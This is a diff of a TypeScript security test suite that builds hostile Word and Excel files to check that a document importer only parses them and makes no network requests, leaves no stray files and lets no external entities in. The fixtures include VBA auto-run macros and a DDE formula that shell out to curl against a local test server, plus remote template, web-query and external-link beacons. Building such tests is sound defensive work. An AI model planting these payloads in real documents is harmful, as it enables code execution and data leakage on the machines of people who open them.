@@ -117,9 +117,22 @@ function hostileDocx(original: Uint8Array): Buffer {
       ),
     ),
   );
-  parts.set('word/_rels/settings.xml.rels', Buffer.from(`<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${rel('rId1', 'attachedTemplate', `${base}/template.dotm`)}</Relationships>`));
-  parts.set('word/afchunk.htm', Buffer.from(`<html><body><img src="${base}/altchunk.png"><iframe src="${base}/frame"></iframe></body></html>`));
-  parts.set('word/vbaProject.bin', Buffer.from('Attribute VB_Name = "AutoOpen"\nShell "curl ' + base + '/macro"'));
+  parts.set(
+    'word/_rels/settings.xml.rels',
+    Buffer.from(
+      `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${rel('rId1', 'attachedTemplate', `${base}/template.dotm`)}</Relationships>`,
+    ),
+  );
+  parts.set(
+    'word/afchunk.htm',
+    Buffer.from(
+      `<html><body><img src="${base}/altchunk.png"><iframe src="${base}/frame"></iframe></body></html>`,
+    ),
+  );
+  parts.set(
+    'word/vbaProject.bin',
+    Buffer.from('Attribute VB_Name = "AutoOpen"\nShell "curl ' + base + '/macro"'),
+  );
   const body = [
     `<w:p><w:hyperlink r:id="rId90"><w:r><w:t>外部链接</w:t></w:r></w:hyperlink></w:p>`,
     `<w:p><w:r><w:drawing><wp:inline><a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><a:graphicData><pic:pic xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:blipFill><a:blip r:link="rId91"/></pic:blipFill></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>`,
@@ -148,15 +161,44 @@ function hostileXlsx(original: Uint8Array): Buffer {
   const parts = readZipEntries(original);
   const set = (name: string, text: string) => parts.set(name, Buffer.from(text));
   const text = (name: string) => parts.get(name)!.toString('utf8');
-  set('xl/workbook.xml', text('xl/workbook.xml').replace('<calcPr', '<externalReferences><externalReference r:id="rId99"/></externalReferences><calcPr'));
-  set('xl/_rels/workbook.xml.rels', text('xl/_rels/workbook.xml.rels').replace('</Relationships>', `${rel('rId99', 'externalLink', 'externalLinks/externalLink1.xml', false)}${rel('rId98', 'connections', 'connections.xml', false)}</Relationships>`));
-  set('xl/externalLinks/externalLink1.xml', `<?xml version="1.0" encoding="UTF-8"?><externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="${R}"><externalBook r:id="rId1"><sheetNames><sheetName val="Sheet1"/></sheetNames></externalBook></externalLink>`);
-  set('xl/externalLinks/_rels/externalLink1.xml.rels', `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${rel('rId1', 'externalLinkPath', `${base}/external-book.xlsx`)}</Relationships>`);
-  set('xl/connections.xml', `<?xml version="1.0" encoding="UTF-8"?><connections xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><connection id="1" name="web" type="4" refreshOnLoad="1"><webPr url="${base}/web-query"/></connection></connections>`);
+  set(
+    'xl/workbook.xml',
+    text('xl/workbook.xml').replace(
+      '<calcPr',
+      '<externalReferences><externalReference r:id="rId99"/></externalReferences><calcPr',
+    ),
+  );
+  set(
+    'xl/_rels/workbook.xml.rels',
+    text('xl/_rels/workbook.xml.rels').replace(
+      '</Relationships>',
+      `${rel('rId99', 'externalLink', 'externalLinks/externalLink1.xml', false)}${rel('rId98', 'connections', 'connections.xml', false)}</Relationships>`,
+    ),
+  );
+  set(
+    'xl/externalLinks/externalLink1.xml',
+    `<?xml version="1.0" encoding="UTF-8"?><externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="${R}"><externalBook r:id="rId1"><sheetNames><sheetName val="Sheet1"/></sheetNames></externalBook></externalLink>`,
+  );
+  set(
+    'xl/externalLinks/_rels/externalLink1.xml.rels',
+    `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${rel('rId1', 'externalLinkPath', `${base}/external-book.xlsx`)}</Relationships>`,
+  );
+  set(
+    'xl/connections.xml',
+    `<?xml version="1.0" encoding="UTF-8"?><connections xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><connection id="1" name="web" type="4" refreshOnLoad="1"><webPr url="${base}/web-query"/></connection></connections>`,
+  );
   const sheet = text('xl/worksheets/sheet2.xml');
   const formulas = `<row r="60"><c r="A60"><f>WEBSERVICE("${base}/webservice")</f><v>0</v></c><c r="B60"><f>cmd|'/c curl ${base}/dde'!A0</f><v>0</v></c><c r="C60"><f>HYPERLINK("${base}/formula-link","链接")</f><v>0</v></c><c r="D60"><f>[1]Sheet1!A1</f><v>0</v></c></row>`;
-  set('xl/worksheets/sheet2.xml', sheet.replace('</sheetData>', `${formulas}</sheetData>`).replace(/(<\/sheetData>)/, '$1<hyperlinks><hyperlink ref="A60" r:id="rId7"/></hyperlinks>'));
-  set('xl/worksheets/_rels/sheet2.xml.rels', `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${rel('rId7', 'hyperlink', `${base}/cell-link`)}</Relationships>`);
+  set(
+    'xl/worksheets/sheet2.xml',
+    sheet
+      .replace('</sheetData>', `${formulas}</sheetData>`)
+      .replace(/(<\/sheetData>)/, '$1<hyperlinks><hyperlink ref="A60" r:id="rId7"/></hyperlinks>'),
+  );
+  set(
+    'xl/worksheets/_rels/sheet2.xml.rels',
+    `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${rel('rId7', 'hyperlink', `${base}/cell-link`)}</Relationships>`,
+  );
   set('xl/vbaProject.bin', 'Sub Workbook_Open()\nShell "curl http://127.0.0.1/macro"\nEnd Sub');
   return makeZip([...[...parts].map(([name, data]) => ({ name, data })), ...escapingEntries()]);
 }
@@ -174,8 +216,13 @@ function guarded(args: string[]): Promise<{ code: number; stdout: string; stderr
     execFile(
       process.execPath,
       ['--import', guard, cli, ...args],
-      { env: { ...box.env, JIXIAO_GUARD_LOG: guardLog, TMPDIR: join(box.root, 'tmp') }, cwd: box.root, timeout: 30_000 },
-      (error, stdout, stderr) => resolve({ code: typeof error?.code === 'number' ? error.code : error ? -1 : 0, stdout, stderr }),
+      {
+        env: { ...box.env, JIXIAO_GUARD_LOG: guardLog, TMPDIR: join(box.root, 'tmp') },
+        cwd: box.root,
+        timeout: 30_000,
+      },
+      (error, stdout, stderr) =>
+        resolve({ code: typeof error?.code === 'number' ? error.code : error ? -1 : 0, stdout, stderr }),
     );
   });
 }
@@ -183,7 +230,14 @@ function guarded(args: string[]): Promise<{ code: number; stdout: string; stderr
 describe('imported documents are only parsed', () => {
   it('the guard notices a connection (it works)', async () => {
     writeFileSync(join(box.root, 'probe.mjs'), `await fetch('${base}/probe').then((r) => r.text());`);
-    await new Promise<void>((resolve) => execFile(process.execPath, ['--import', guard, join(box.root, 'probe.mjs')], { env: { ...box.env, JIXIAO_GUARD_LOG: guardLog } }, () => resolve()));
+    await new Promise<void>((resolve) =>
+      execFile(
+        process.execPath,
+        ['--import', guard, join(box.root, 'probe.mjs')],
+        { env: { ...box.env, JIXIAO_GUARD_LOG: guardLog } },
+        () => resolve(),
+      ),
+    );
     expect(readFileSync(guardLog, 'utf8')).toMatch(/fetch .*\/probe/);
     expect(hits).toEqual(['GET /probe']);
     hits.length = 0;
@@ -212,16 +266,31 @@ describe('imported documents are only parsed', () => {
         if (result.code === 0) expectedNew.push(output);
         else expect(result.stderr).toMatch(/^错误：/m);
       }
-      expect(`${result.stdout}${existsSync(join(box.root, output)) && output ? readFileSync(join(box.root, output), 'latin1') : ''}`).not.toContain('gotcha');
+      expect(
+        `${result.stdout}${existsSync(join(box.root, output)) && output ? readFileSync(join(box.root, output), 'latin1') : ''}`,
+      ).not.toContain('gotcha');
     }
-    expect(expectedNew).toEqual(expect.arrayContaining(['exports/docx.json', 'exports/xlsx.json', 'exports/docx.md', 'exports/xlsx.docx']));
+    expect(expectedNew).toEqual(
+      expect.arrayContaining([
+        'exports/docx.json',
+        'exports/xlsx.json',
+        'exports/docx.md',
+        'exports/xlsx.docx',
+      ]),
+    );
 
     expect(hits).toEqual([]);
     expect(existsSync(guardLog) ? readFileSync(guardLog, 'utf8') : '').toBe('');
     const after = tree(box.root);
     expect(after.filter((name) => !before.includes(name)).sort()).toEqual(expectedNew.sort());
     expect(tree(join(box.root, 'tmp'))).toEqual([]);
-    for (const place of [`/tmp/${escapeName}`, `/tmp/abs-${escapeName}`, join(dirname(box.root), escapeName), join(box.root, escapeName)]) expect(existsSync(place), place).toBe(false);
+    for (const place of [
+      `/tmp/${escapeName}`,
+      `/tmp/abs-${escapeName}`,
+      join(dirname(box.root), escapeName),
+      join(box.root, escapeName),
+    ])
+      expect(existsSync(place), place).toBe(false);
 
     // The text of the tables is there; no file content came in through an entity.
     const imported = readFileSync(join(box.exports, 'docx.json'), 'utf8');
@@ -236,7 +305,8 @@ describe('imported documents are only parsed', () => {
     const fetchSpy = vi.spyOn(globalThis, 'fetch');
     const requestSpy = vi.spyOn(http, 'request');
     try {
-      for (const file of [files.docx, files.xlsx, files.xxe]) await loadDocumentFile(file).catch(() => undefined);
+      for (const file of [files.docx, files.xlsx, files.xxe])
+        await loadDocumentFile(file).catch(() => undefined);
       expect(fetchSpy).not.toHaveBeenCalled();
       expect(requestSpy).not.toHaveBeenCalled();
       expect(hits).toEqual([]);
